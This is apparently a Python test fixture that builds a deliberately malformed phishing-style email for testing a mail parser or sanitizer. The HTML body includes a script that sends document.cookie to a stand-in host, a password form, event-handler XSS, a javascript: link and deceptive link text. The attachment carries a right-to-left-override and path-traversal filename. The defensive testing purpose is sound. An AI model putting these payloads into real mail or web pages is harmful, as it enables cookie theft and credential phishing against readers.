"""The sample of what goes wrong: a header against the rules, and HTML that means no good.

It shows what is found, and that nothing of it runs or is fetched.
"""

from datetime import datetime

HEAD = """From: "Support" <{sender}>
From: Somebody else <other@example.net>
To: {recipient}
Subject: Wichtig: Ihre R\xfcckzahlung (8-bit, and no charset told)
Date: yesterday, about noon
Message-ID: {message_id}
Bad Field: a space in a name
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="there is no end"

--there is no end
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

"""
BODY = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example.com/">
<base href="https://evil.example.com/"><link rel="stylesheet" href="https://evil.example.com/a.css">
<style>body { background: url(https://evil.example.com/pixel.gif) }</style></head>
<body onload="parent.document.title='caught'">
<h1>Dear customer</h1>
<p>Everything in this mail is an attempt on whoever reads it. It should look dull.</p>
<script>fetch("https://evil.example.com/" + document.cookie)</script>
<img src="https://evil.example.com/x.png" onerror="alert(1)"> <svg onload="alert(2)"></svg>
<p><a href="javascript:alert(3)">Claim it now</a>
 or <a href="https://evil.example.com/">https://bank.example.com/</a></p>
<form action="https://evil.example.com/"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example.com/"></iframe>
"""
FILE = """
--there is no end
Content-Type: application/octet-stream; name="=?utf-8?q?invoice_=E2=80=AEfdp=2Eexe?="
Content-Disposition: attachment; filename="../../invoice.exe"
Content-Transfer-Encoding: base64

VGhpcyBpcyBubyBwcm9ncmFtLg=!
"""


def sample(sender: str, recipient: str, now: datetime, message_id: str) -> bytes:
    """The message; it is not told when it was sent, and its line ends are of both kinds."""
    del now
    head = HEAD.format(sender=sender, recipient=recipient, message_id=message_id)
    return (
        head.encode("latin-1").replace(b"\n", b"\r\n")
        + BODY.encode()
        + FILE.encode().replace(b"\n", b"\r\n")
    )
